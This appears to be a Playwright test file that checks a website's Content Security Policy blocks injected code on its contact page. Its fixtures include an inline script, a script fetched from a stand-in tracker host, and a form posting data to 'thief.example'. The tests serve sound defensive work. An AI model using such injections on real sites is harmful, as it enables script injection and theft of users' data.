import type { Page } from "@playwright/test";
import { ready } from "../../scripts/scenarios/ready.ts";
import { expect, test } from "../support/test.ts";

/*
 * The security policy is in force. delivery.spec.ts tests its text. Every browser test proves that the site itself does not
 * violate it: a violation in the console fails the test.
 */

/** Collects the page's policy violations. */
async function watchViolations(page: Page): Promise<() => Promise<string[]>> {
  await page.addInitScript(() => {
    const violations: string[] = [];
    addEventListener("securitypolicyviolation", (event) =>
      violations.push(`${event.violatedDirective} ${event.blockedURI}`),
    );
    Object.assign(globalThis, { violations });
  });
  return () => page.evaluate(() => (globalThis as unknown as { violations: string[] }).violations);
}

/** Returns the global variables that injected code would set. */
const ran = (page: Page) =>
  page.evaluate(() => Object.keys(window).filter((name) => name.startsWith("injected")));

/** Each part with the violation that it must cause. */
const injections: Readonly<Record<string, string>> = {
  "<script>window.injectedScript = true</script>": "script-src-elem inline",
  '<script src="https://tracker.example/a.js"></script>': "script-src-elem https://tracker.example/a.js",
  '<form id="injected" action="https://thief.example/" method="post"><input name="a"></form>':
    "form-action https://thief.example",
};

test.describe("foreign code", () => {
  // The console names each violation.
  test.use({ expectedErrors: /Content Security Policy|ERR_BLOCKED|^csp|Trusted/i });

  test("does not run, load or send when injected into the HTML", async ({ page, baseURL }) => {
    const violations = await watchViolations(page);
    const markup = Object.keys(injections).join("");
    await page.route(
      "/contact",
      async (route) => {
        const response = await route.fetch();
        const body = (await response.text()).replace("</body>", `${markup}</body>`);
        await route.fulfill({ response, body });
      },
      // Only the page itself: its links request the same URL later.
      { times: 1 },
    );
    await page.goto("/contact");
    await page.locator("#injected").evaluate((form: HTMLFormElement) => form.submit());
    for (const violation of Object.values(injections)) {
      await expect
        .poll(async () => (await violations()).filter((line) => line.startsWith(violation)), violation)
        .not.toEqual([]);
    }
    expect(await ran(page)).toEqual([]);
    expect(page.url()).toBe(`${baseURL}/contact`);
  });

  test("is refused later, except structured data and scripts of this site", async ({ page }) => {
    await page.goto("/contact");
    const allowed = await page.evaluate(async () => {
      // In a task of its own, because the policy does not apply to the test's own call.
      await new Promise((resolve) => setTimeout(resolve));
      const script = () => document.createElement("script");
      const attempts = {
        markup: () => Object.assign(document.body, { innerHTML: "<b>foreign</b>" }),
        "script of another host": () => Object.assign(script(), { src: "https://tracker.example/a.js" }),
        "script text": () => Object.assign(script(), { textContent: "window.injectedText = true" }),
        "structured data": () => Object.assign(script(), { innerHTML: '{"name": "\\u003cb>"}' }),
        "own script": () => Object.assign(script(), { src: "/_next/static/chunks/a.js" }),
      };
      return Object.entries(attempts).flatMap(([name, attempt]) => {
        try {
          attempt();
          return [name];
        } catch {
          return [];
        }
      });
    });
    expect(allowed).toEqual(["structured data", "own script"]);
    expect(await ran(page)).toEqual([]);
  });
});

test("what an extension adds before React starts does not disturb the page", async ({ page }) => {
  await page.addInitScript(() =>
    document.addEventListener("readystatechange", () => {
      if (document.readyState !== "interactive") return;
      document.body.setAttribute("data-extension", "");
      document.body.prepend(document.createElement("extension-toolbar"));
      document.body.append(document.createElement("extension-panel"));
      document.head.append(document.createElement("style"));
    }),
  );
  await page.goto("/contact");
  await ready(page);
  await expect(page.locator("extension-toolbar, extension-panel")).toHaveCount(2);
  await page.locator("main [type=submit]").click();
  await expect(page.locator("main [aria-invalid=true]").first()).toBeFocused();
});
